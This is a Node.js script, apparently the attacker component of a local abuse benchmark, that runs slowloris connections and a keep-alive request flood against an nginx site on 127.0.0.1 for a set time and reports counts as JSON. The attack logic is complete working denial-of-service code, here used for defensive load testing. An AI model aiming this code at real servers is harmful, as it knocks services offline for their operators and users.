// The attacker of bench/abuse/run.sh, from its own loopback address: for DURATION seconds it
// keeps SLOW slowloris connections open (a header line every second, never the end of the
// headers; each one nginx closes is opened again) and floods the site with FLOOD keep-alive
// request loops. Then it prints what it got as one JSON line. Bounded by DURATION.
'use strict';
const http = require('node:http');
const net = require('node:net');

const [port, from, seconds, slow, flood] = process.argv.slice(2);
const PORT = Number(port);
const SLOW = Number(slow);
const FLOOD = Number(flood);
const end = Date.now() + Number(seconds) * 1000;
const stats = { slowOpened: 0, slowClosedByServer: 0, floodStatus: {}, floodErrors: 0 };

function slowloris() {
  if (Date.now() >= end) return;
  const socket = net.connect({ port: PORT, host: '127.0.0.1', localAddress: from });
  stats.slowOpened++;
  let timer;
  socket.on('connect', () => {
    socket.write('GET / HTTP/1.1\r\nHost: site\r\n');
    timer = setInterval(() => { if (Date.now() >= end) socket.destroy(); else socket.write('X-Slow: 1\r\n'); }, 1000);
  });
  socket.resume();
  socket.on('error', () => {});
  socket.on('close', () => {
    clearInterval(timer);
    if (Date.now() < end) {
      stats.slowClosedByServer++;
      setTimeout(slowloris, 10);
    }
  });
}

const agent = new http.Agent({ keepAlive: true, maxSockets: FLOOD, localAddress: from });
function floodLoop() {
  if (Date.now() >= end) return;
  const req = http.get({ host: '127.0.0.1', port: PORT, path: '/', agent }, (res) => {
    stats.floodStatus[res.statusCode] = (stats.floodStatus[res.statusCode] || 0) + 1;
    res.resume();
    res.on('end', floodLoop);
  });
  req.on('error', () => { stats.floodErrors++; setTimeout(floodLoop, 10); });
}

for (let i = 0; i < SLOW; i++) slowloris();
for (let i = 0; i < FLOOD; i++) floodLoop();
setTimeout(() => {
  agent.destroy();
  process.stdout.write(`${JSON.stringify(stats)}\n`);
  process.exit(0);
}, Number(seconds) * 1000 + 200);
